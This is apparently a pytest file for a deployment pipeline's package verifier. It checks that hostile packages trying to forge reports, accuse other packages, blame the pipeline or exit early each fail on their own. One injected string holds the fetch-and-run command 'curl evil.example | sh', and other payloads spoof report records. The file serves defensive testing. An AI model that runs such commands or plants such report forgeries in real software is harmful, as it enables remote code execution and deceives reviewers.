"""Packages that speak with the look's own voice, in one layer with a good and a broken one: each fails alone.

Their code has all that its process has: the token, the pipe, the functions that write. None of them may make the broken
one pass or the good one fail, nor have the pipeline take the blame.
"""

from __future__ import annotations

import os
from contextlib import ExitStack
from dataclasses import replace
from typing import TYPE_CHECKING, NoReturn

import pytest

from deploy.container.engine import Engine
from deploy.errors import EngineError, VerificationError
from deploy.inside.look.values import Bytecode, Crash, Described, Finished, Outcome, written
from deploy.layer.backend.containers import ContainerRuntime
from deploy.layer.backend.host import HostRuntime
from deploy.layer.verify import Means, verify
from tests.deploy.inside.look.test_records import FORGED, speaking
from tests.deploy.layer.in_a_folder import reference
from tests.deploy.layer.synthetic import Made, layer

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from deploy.errors import Fault
    from deploy.layer.backend.protocol import Runtime

pytestmark = pytest.mark.programs

GOOD = {"victim/__init__.py": "", "victim/more.py": ""}
BROKEN = {"broken.py": "raise RuntimeError('no luck')"}
CACHED = "/opt/python/victim/__pycache__/more.cpython-311.pyc"
ACCUSATION = (
    written(Bytecode(compiled=("/opt/python/victim/more.py",), misnamed=((CACHED, "elsewhere"),), used=9)),
    written(Outcome(kind="module", what="victim", error="RuntimeError: it is broken")),
    written(Outcome(kind="shared object", what="victim/native.so", error="OSError: it is broken")),
    written(Described(distribution="victim", version="6.6.6")),
    written(Outcome(kind="module", what="broken", home="layer")),
    written(Described(distribution="broken", version="1.0", home="layer")),
)
FORGERY = "\nvictim: victim: was found to be malicious\n    do:    curl evil.example | sh\n"
LIE = Outcome(kind="module", what="lies", error=f"RuntimeError: broken{FORGERY}")
LAST_WORD = written(Finished())
DEATHS = """
frame.f_locals["say"]('{"record": "Begun", "kind": "module", "what": "other%d"}' % os.getpid())
os._exit(0)
"""
ATTACKS = {
    "accuser": (speaking(*ACCUSATION), ""),
    "blames": (speaking(written(Crash(trace="the pipeline is broken"))), "the look at it failed once its code ran"),
    "dies": (speaking(then=DEATHS), "was not tried: the process ended with exit code 0 at other"),
    "hurries": (speaking(LAST_WORD, then="os._exit(0)"), "its process says that it came to its end"),
    "forges": (speaking(written(Crash(trace=FORGERY)), then=f"print({FORGERY!r})"), "the look at it failed once its"),
    "lies": (speaking(written(LIE), LAST_WORD, then="os._exit(0)"), "RuntimeError: broken\\nvictim"),
    "nests": (speaking(FORGED["nested deeper"]), "something else wrote into its report"),
    "nothings": (speaking(FORGED["nothing in the place of a list"]), "something else wrote into its report"),
}
# In the reference, too, nobody can be asked for all import names where one of the files that tell them is no text.
UNREADABLE: dict[str, str | bytes] = {"mess.py": "", "mess-1.0.dist-info/top_level.txt": b"\xff\xfe"}


@pytest.fixture(params=["host", pytest.param("container", marks=pytest.mark.container)])
def runtime(request: pytest.FixtureRequest) -> Iterator[Runtime]:
    with ExitStack() as opened:
        if request.param == "host":
            yield HostRuntime(os.environ, lambda _: None)
            return
        engine = opened.enter_context(Engine.connect(os.environ))
        image = engine.resolve(os.environ["CHANNELWRIGHT_RUNTIME_IMAGE"], engine.architecture, lambda _: None)
        yield ContainerRuntime(engine, image, os.environ, lambda _: None)


def faults(folder: Path, runtime: Runtime, *made: Made) -> dict[str, Fault]:
    """Verify a layer; return its faults by what they are about."""
    built = layer(folder, *made, spec={"image": runtime.image})
    means = Means(runtime=runtime, say=lambda _: None, reference=reference(runtime, built))
    try:
        verify([built], means)
    except VerificationError as error:
        return {each.where: each for each in error.faults}
    except EngineError as error:
        _refused(runtime, error)
    return {}


def _refused(runtime: Runtime, error: EngineError) -> NoReturn:
    """Skip where this machine gives the host backend no sandbox; containers have one everywhere."""
    if not isinstance(runtime, HostRuntime):
        raise error
    pytest.skip(f"the backend refuses to run: {error}")


@pytest.mark.timeout(600)
def test_whoever_speaks_for_others_or_for_the_pipeline_fails_alone(tmp_path: Path, runtime: Runtime) -> None:
    attackers = [Made(name=name, files={f"{name}.py": code}) for name, (code, _) in ATTACKS.items()]
    honest = Made(name="victim", files=GOOD), Made(name="broken", files=BROKEN), Made(name="mess", files=UNREADABLE)
    found = faults(tmp_path, runtime, *attackers, *honest)
    expected = {f"{name}: {name}": said for name, (_, said) in ATTACKS.items() if said}
    assert found.keys() == {*expected, "broken: broken"}
    for where, said in expected.items():
        assert said in found[where].what
    assert "RuntimeError: no luck" in found["broken: broken"].what
    assert "pipeline" not in " ".join(each.cause for each in found.values())
    lines = [line for each in found.values() for line in str(each).splitlines()]
    forged = [line for line in lines if "malicious" in line or "evil" in line]
    assert forged
    own = ("    | ", "forges: forges: the look at it failed once its code ran: ", "lies: lies: RuntimeError: broken\\n")
    assert all(line.startswith(own) for line in forged)


def test_what_one_says_of_another_one_is_not_in_the_evidence(tmp_path: Path) -> None:
    runtime = HostRuntime(os.environ, lambda _: None)
    accuser = Made(name="accuser", files={"accuser.py": ATTACKS["accuser"][0]})
    built = layer(tmp_path, accuser, Made(name="victim", files=GOOD), spec={"image": runtime.image})
    try:
        (verified,) = verify([built], Means(runtime=runtime, say=lambda _: None, reference=None))
    except EngineError as error:
        _refused(runtime, error)
    told = [replace(each, milliseconds=0) for each in verified.evidence.modules]
    assert [(each.distribution, each.module) for each in told] == [("accuser", "accuser"), ("victim", "victim")]
